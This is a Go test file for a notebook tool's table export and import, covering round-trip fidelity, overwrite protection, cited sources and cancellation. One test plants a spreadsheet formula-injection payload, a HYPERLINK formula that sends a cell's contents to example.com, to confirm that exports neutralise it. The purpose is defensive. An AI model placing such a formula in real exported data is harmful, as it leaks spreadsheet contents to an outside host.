package verb

import (
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"assay/data"
	"assay/data/format"
	"assay/data/store"
)

// scoresOf is what the verb scorecard prints of a notebook as of a day.
func scoresOf(t *testing.T, path string) string {
	t.Helper()
	out, talk, code := assay("scorecard", path, "--json", "--as-of", "2026-07-01")
	if code != Done {
		t.Fatal(talk)
	}
	return out
}

func TestTheSamplesTablesMakeANotebookWithTheSameScorecardToTheByte(t *testing.T) {
	path := sample(t)
	want := scoresOf(t, path)
	dir := t.TempDir()
	folder, book := filepath.Join(dir, "tables"), filepath.Join(dir, "book.xlsx")
	for _, c := range []struct{ out, tables string }{{folder, folder}, {book, book}} {
		printed, talk, code := assay("export", path, "--tables", "all", "--out", c.out)
		if code != Done {
			t.Fatal(talk)
		}
		for _, line := range strings.Fields(printed) {
			if _, err := os.Stat(line); err != nil {
				t.Errorf("it names %s, which isn't there", line)
			}
		}
		again := filepath.Join(t.TempDir(), "again.assay")
		if _, talk, code := assay("new", again); code != Done {
			t.Fatal(talk)
		}
		if _, talk, code := assay("import", again, c.tables); code != Done || !strings.Contains(talk, "230 figures (0 stood already)") {
			t.Fatal(talk)
		}
		if got := scoresOf(t, again); got != want {
			t.Errorf("the scorecard made from %s differs", c.out)
		}
		if _, talk, code := assay("import", path, c.tables); code != Done || !strings.Contains(talk, "0 figures (230 stood already), 0 sources, 0 companies") {
			t.Errorf("read into the sample itself: %s", talk)
		}
	}
}

func TestTablesNeverReplaceAFileUnlessToldTo(t *testing.T) {
	path := sample(t)
	dir := t.TempDir()
	mine := filepath.Join(dir, "sources.csv")
	if err := os.WriteFile(mine, []byte("mine"), 0o600); err != nil {
		t.Fatal(err)
	}
	_, talk, code := assay("export", path, "--tables", "contracts,sources", "--out", dir)
	entries, _ := os.ReadDir(dir)
	if now, _ := os.ReadFile(mine); code != Undone || string(now) != "mine" || len(entries) != 1 || !strings.Contains(talk, "sources.csv is there already") {
		t.Errorf("%d %s %v", code, talk, entries)
	}
	if _, talk, code := assay("export", path, "--tables", "contracts,sources", "--out", dir, "--replace"); code != Done {
		t.Errorf("told to: %s", talk)
	}
	if now, _ := os.ReadFile(mine); string(now) == "mine" {
		t.Error("it wasn't replaced")
	}
}

func TestOfTablesOnlyTheChosenAreWrittenAndTheSourcesThatTheyCite(t *testing.T) {
	path := sample(t)
	dir := t.TempDir()
	if _, talk, code := assay("export", path, "--tables", "commitments", "--out", dir); code != Done {
		t.Fatal(talk)
	}
	var names []string
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if !slices.Equal(names, []string{"commitments.csv", "repromises.csv", "sources.csv"}) {
		t.Fatalf("it wrote %v", names)
	}
	cited := map[string]bool{}
	for _, c := range []struct {
		file    string
		columns []string
	}{{"commitments.csv", []string{"promise_source_key", "met_source_key"}}, {"repromises.csv", []string{"source_key"}}} {
		for _, row := range table(t, filepath.Join(dir, c.file)) {
			for _, column := range c.columns {
				if row[column] != "" {
					cited[row[column]] = true
				}
			}
		}
	}
	listed := table(t, filepath.Join(dir, "sources.csv"))
	for _, row := range listed {
		delete(cited, row["key"])
	}
	if len(cited) > 0 || len(listed) == 0 || len(listed) == 67 {
		t.Errorf("of %d sources listed these lack: %v", len(listed), cited)
	}
	for _, c := range []struct{ says, tables, format string }{
		{`not "prices"`, "contracts,prices", "csv"}, {`no format "pdf"`, "all", "pdf"}, {"holds nothing of what was chosen", "checklists", "csv"}} {
		if _, talk, code := assay("export", path, "--tables", c.tables, "--format", c.format, "--out", t.TempDir()); code != Undone || !strings.Contains(talk, c.says) {
			t.Errorf("%s as %s: %d %s", c.tables, c.format, code, talk)
		}
	}
}

// table reads a CSV file as a spreadsheet would, by its headings.
func table(t *testing.T, path string) []map[string]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	all, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]string
	for _, row := range all[1:] {
		named := map[string]string{}
		for i, cell := range row {
			named[all[0][i]] = cell
		}
		out = append(out, named)
	}
	return out
}

// edited alters a notebook.
func edited(t *testing.T, path string, change func(context.Context, *store.Notebook, *store.Edit) error) {
	t.Helper()
	ctx := context.Background()
	book, err := store.Open(ctx, path, store.Options{Author: "Ann"})
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	if _, err := book.Edit(ctx, "change", func(e *store.Edit) error { return change(ctx, book, e) }); err != nil {
		t.Fatal(err)
	}
}

func TestATextThatASpreadsheetCouldRunStaysAText(t *testing.T) {
	path := sample(t)
	const formula = `=HYPERLINK("http://example.com/?"&A1,"x")`
	edited(t, path, func(ctx context.Context, book *store.Notebook, e *store.Edit) error {
		return e.Put(&data.Source{Title: formula, Publisher: "@SUM(A1)", Key: "+k"})
	})
	dir := t.TempDir()
	book := filepath.Join(dir, "book.xlsx")
	for _, out := range []string{dir, book} {
		if _, talk, code := assay("export", path, "--tables", "sources", "--out", out); code != Done {
			t.Fatal(talk)
		}
	}
	found := false
	for _, row := range table(t, filepath.Join(dir, "sources.csv")) {
		for column, cell := range row {
			if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
				t.Errorf("%s could be run: %s", column, cell)
			}
		}
		found = found || row["title"] == "'"+formula
	}
	if !found {
		t.Error("the source isn't there, guarded")
	}
	f, err := excelize.OpenFile(book)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("sources")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 69 { // a heading, those of the sample, and the one above
		t.Fatalf("%d rows", len(rows))
	}
	for _, at := range []string{"A69", "B69", "C69"} {
		if got, _ := f.GetCellFormula("sources", at); got != "" {
			t.Errorf("%s holds the formula %q", at, got)
		}
		if kind, _ := f.GetCellType("sources", at); kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
			t.Errorf("%s is of the type %v", at, kind)
		}
	}
	if text, _ := f.GetCellValue("sources", "B69"); text != formula {
		t.Errorf("the workbook holds %q", text)
	}
	for _, from := range []string{filepath.Join(dir, "sources.csv"), book} {
		again := filepath.Join(t.TempDir(), "again.assay")
		assay("new", again)
		if _, talk, code := assay("import", again, from); code != Done {
			t.Fatal(talk)
		}
		opened, err := store.Open(context.Background(), again, store.Options{})
		if err != nil {
			t.Fatal(err)
		}
		sources, err := opened.SourceList(context.Background())
		opened.Close()
		if err != nil || !slices.ContainsFunc(sources, func(s data.Source) bool { return s.Title == formula && s.Publisher == "@SUM(A1)" && s.Key == "+k" }) {
			t.Errorf("read back from %s it's another (%v)", from, err)
		}
	}
}

func TestAGridReadBackTakesNoSourceOffAFigureAndBringsWhatWasAltered(t *testing.T) {
	path := sample(t)
	dir := t.TempDir()
	if _, talk, code := assay("export", path, "--tables", "figures", "--out", dir); code != Done {
		t.Fatal(talk)
	}
	grid := filepath.Join(dir, "figures-iren-ai.csv")
	if _, talk, code := assay("import", path, dir); code != Done || !strings.Contains(talk, "0 figures (230 stood already)") {
		t.Errorf("unaltered: %s", talk)
	}
	text, err := os.ReadFile(grid)
	if err != nil || !strings.Contains(string(text), "17.3") {
		t.Fatal(string(text), err)
	}
	if err := os.WriteFile(grid, []byte(strings.Replace(string(text), "17.3", "17.6", 1)), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, talk, code := assay("import", path, grid); code != Done || !strings.Contains(talk, "1 figures (") {
		t.Errorf("altered: %s", talk)
	}
	opened, err := store.Open(context.Background(), path, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer opened.Close()
	unsourced, err := opened.Unsourced(context.Background())
	if err != nil || len(unsourced) != 1 || *unsourced[0].Value != 17.6 {
		t.Errorf("without a source are %v (%v)", unsourced, err)
	}
}

func TestAnExportOfTablesThatIsCancelledLeavesNothing(t *testing.T) {
	path := sample(t)
	book, err := store.Open(context.Background(), path, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	for _, kind := range []string{"csv", "xlsx"} {
		dir := t.TempDir()
		ctx, cancel := context.WithCancel(context.Background())
		most := 0
		e := Tables{Kinds: format.TableKinds, Format: kind, Path: dir, Progress: func(done, total int, table string) {
			if most = max(most, done); table == "contracts" {
				cancel()
			}
			if done > total || table == "" {
				t.Errorf("%d of %d, %q", done, total, table)
			}
		}}
		if kind == "xlsx" {
			e.Path = filepath.Join(dir, "book.xlsx")
		}
		_, err := e.Run(ctx, book)
		if entries, _ := os.ReadDir(dir); err != context.Canceled || len(entries) > 0 || most == 0 {
			t.Errorf("%s: %v, and there lie %v", kind, err, entries)
		}
	}
}

func TestWhatTheTablesLackIsSaid(t *testing.T) {
	path := sample(t)
	edited(t, path, func(ctx context.Context, book *store.Notebook, e *store.Edit) error {
		return e.Put(&data.Note{Pin: data.PinDate, OnDate: data.Date{Year: 2026, Month: 5, Day: 1}, Text: "results"})
	})
	if _, talk, code := assay("export", path, "--tables", "all", "--out", t.TempDir()); code != Done || !strings.Contains(talk, "1 note") || !strings.Contains(talk, "A shared copy has them") {
		t.Errorf("%d %s", code, talk)
	}
}
